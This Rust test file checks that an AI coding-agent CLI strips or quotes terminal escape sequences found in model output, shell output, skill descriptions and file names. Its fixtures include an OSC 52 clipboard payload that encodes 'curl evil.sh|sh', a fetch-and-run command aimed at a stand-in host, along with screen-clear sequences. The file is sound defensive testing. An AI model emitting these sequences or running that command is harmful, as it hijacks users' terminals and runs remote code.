//! Escape sequences in what the model writes or a command prints never
//! reach the terminal through `quire exec`'s human view: OSC 52 would set
//! the clipboard, `ESC[2J` clear the screen.

use serde_json::json;

use crate::support::model_server::{Reply, Step};
use crate::support::pty::Pty;
use crate::support::quire::TestEnv;
use crate::support::skills_common::{SkillsEnv, write_skill};

const HOSTILE: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b]8;;https://evil\x1b\\";

fn hostile_turn(env: &TestEnv) {
    env.server.push_all([
        Reply::steps(vec![
            Step::text(format!("before{HOSTILE}after")),
            Step::tool_call(
                "esc",
                "shell",
                json!({"command": "printf 'out\\033]52;c;ZXZpbA==\\007\\033[2J'; exit 3"}),
            ),
        ]),
        Reply::text(format!("done{HOSTILE}")),
    ]);
}

fn assert_inert(shown: &str) {
    for bad in ["\x1b]", "\x1b[2J", "\x07"] {
        assert!(
            !shown.contains(bad),
            "{bad:?} reached the terminal: {shown:?}"
        );
    }
}

#[test]
fn a_terminal_gets_the_text_without_the_sequences() {
    let env = TestEnv::new("responses");
    hostile_turn(&env);
    let mut pty = Pty::spawn(env.command(&["exec", "hi"]), 24, 200);
    assert_eq!(pty.wait_exit(), 0);
    let shown = pty.output();
    assert!(
        shown.contains("beforeafter") && shown.contains("done"),
        "{shown:?}"
    );
    assert!(
        shown.contains("exit 3"),
        "the failed call is shown: {shown:?}"
    );
    assert_inert(&shown);
}

#[test]
fn stderr_lines_are_clean_when_output_is_piped() {
    let env = TestEnv::new("responses");
    hostile_turn(&env);
    let run = env.run(&["exec", "hi"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("exit 3"), "{}", run.stderr);
    assert_inert(&run.stderr);
}

/// Stdout piped (`| less -R`, `| tee log`, a CI log that renders colour)
/// gets the model's text cleaned as a terminal does; `--json` keeps it as
/// written, JSON-escaped.
#[test]
fn stdout_is_clean_when_piped_and_json_keeps_the_text() {
    let env = TestEnv::new("responses");
    hostile_turn(&env);
    let run = env.run(&["exec", "hi"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    // Only the answer on stdout; the message before the call on stderr,
    // cleaned the same way.
    assert_eq!(run.stdout, "done\n");
    assert!(run.stderr.contains("beforeafter"), "{:?}", run.stderr);
    assert_inert(&run.stderr);

    hostile_turn(&env);
    let json = env.run(&["exec", "--json", "hi"]);
    assert_eq!(json.code, 0, "{}", json.stderr);
    assert!(
        json.stdout.contains("before\\u001b]52;c;"),
        "--json keeps the text as written: {:?}",
        json.stdout
    );
}

/// A skill whose description holds terminal sequences is not loaded (the
/// model would read other text than the user sees): `skills show` says
/// so, naming the character, and nothing of the sequences reaches the
/// terminal or a pipe.
#[test]
fn skills_show_names_a_skill_skipped_for_the_sequences_of_its_description() {
    let e = SkillsEnv::new();
    write_skill(
        &e.repo.join(".agents/skills/evil"),
        "evil",
        "\"looks fine\\e]52;c;ZXZpbA==\\a then\\e[2J clears\"",
        "",
        "body",
    );
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_quire"));
    cmd.args(["skills", "show", "evil"])
        .current_dir(&e.repo)
        .env("QUIRE_HOME", &e.home)
        .env("HOME", &e.user);
    let mut pty = Pty::spawn(cmd, 24, 200);
    assert_eq!(pty.wait_exit(), 1);
    let shown = pty.output();
    assert!(
        shown.contains("was skipped") && shown.contains("U+001B"),
        "{shown:?}"
    );
    assert_inert(&shown);

    let piped = e.run(&["skills", "show", "evil"]);
    assert_eq!(piped.code, 1, "{}", piped.stderr);
    assert!(piped.stderr.contains("U+001B"), "{:?}", piped.stderr);
    assert!(
        !piped.stdout.contains('\x1b') && !piped.stderr.contains('\x1b'),
        "{:?} {:?}",
        piped.stdout,
        piped.stderr
    );
}

/// A file created with an escape sequence in its name is shown quoted,
/// its controls escaped: the name shown is the name on disk.
#[test]
fn a_created_file_with_controls_in_its_name_is_shown_quoted() {
    let env = TestEnv::new("chat");
    env.server.push_all([
        Reply::tool_call(
            "p",
            "apply_patch",
            json!({"patch": "*** Begin Patch\n*** Add File: evil\u{1b}]0;x\u{7}red.txt\n+hi\n*** End Patch\n"}),
        ),
        Reply::text("done"),
    ]);
    let run = env.run(&["exec", "--approval", "never", "make it"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(env.repo.path().join("evil\u{1b}]0;x\u{7}red.txt").exists());
    let shown = format!("{}{}", run.stdout, run.stderr);
    assert_inert(&shown);
    assert!(shown.contains("\"evil\\033]0;x\\007red.txt\""), "{shown}");
    assert!(!shown.contains("evilred.txt"), "{shown}");
}
